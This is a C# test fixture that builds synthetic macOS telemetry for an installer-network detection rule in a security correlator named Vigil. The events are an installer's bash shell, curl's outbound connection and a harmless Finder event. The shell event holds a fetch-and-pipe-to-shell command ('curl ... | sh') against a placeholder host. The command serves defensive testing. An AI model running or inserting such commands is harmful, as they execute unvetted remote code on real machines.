using Vigil.Contracts.Telemetry;

namespace Vigil.Correlator.IntegrationTests;

/// <summary>Hand-built telemetry for the installer-network rule: an installer's shell, curl's connection, and noise.</summary>
internal static class InstallerEvents
{
    public const long T0 = 1_763_800_000_000_000_000L;

    public static long Seconds(double s) => (long)(s * 1_000_000_000);

    public static TelemetryEvent ShellFromInstaller(string host, long timestamp, string id, string parentName = "installer", string parentExecutable = "/usr/sbin/installer") => Base(host, timestamp, id, "process", "start", "exec", new Process
    {
        EntityId = $"{host}-bash",
        Pid = 4242,
        Name = "bash",
        Executable = "/bin/bash",
        Args = { "/bin/bash", "-c", "curl -fsSL https://cdn.example/p.sh | sh" },
        ArgsCount = 3,
        CommandLine = "/bin/bash -c curl -fsSL https://cdn.example/p.sh | sh",
        Parent = new Process { EntityId = $"{host}-installer", Name = parentName, Executable = parentExecutable, Pid = 4200 },
    });

    public static TelemetryEvent CurlConnection(string host, long timestamp, string id, string domain = "cdn.example") =>
        Base(host, timestamp, id, "network", "start", "connection_attempted", new Process
        {
            EntityId = $"{host}-curl",
            Pid = 4243,
            Name = "curl",
            Executable = "/usr/bin/curl",
            Parent = new Process { EntityId = $"{host}-bash", Name = "bash", Executable = "/bin/bash" },
        }).With(e =>
        {
            e.Destination = new Endpoint { Ip = "203.0.113.7", Port = 443, Domain = domain };
            e.Network = new Network { Transport = "tcp", Protocol = "https", Direction = "egress" };
        });

    /// <summary>A file open by Finder: no step of the rule can use it.</summary>
    public static TelemetryEvent FinderOpensAFile(string host, long timestamp, string id) =>
        Base(host, timestamp, id, "file", "access", "open", new Process { EntityId = $"{host}-finder", Name = "Finder", Executable = "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder" })
            .With(e => e.File = new Vigil.Contracts.Telemetry.File { Path = $"/Users/alice/Documents/{id}.txt", Name = $"{id}.txt" });

    private static TelemetryEvent Base(string host, long timestamp, string id, string category, string type, string action, Process process) => new()
    {
        Timestamp = timestamp,
        Event = new Event { Id = id, Sequence = timestamp / 1000, Category = { category }, Type = { type }, Action = action, Kind = "event" },
        Host = new Host { Id = host, Name = host, Os = new Os { Type = "macos" } },
        User = new User { Id = "0", Name = "root" },
        Process = process,
    };

    private static TelemetryEvent With(this TelemetryEvent e, Action<TelemetryEvent> change)
    {
        change(e);
        return e;
    }
}
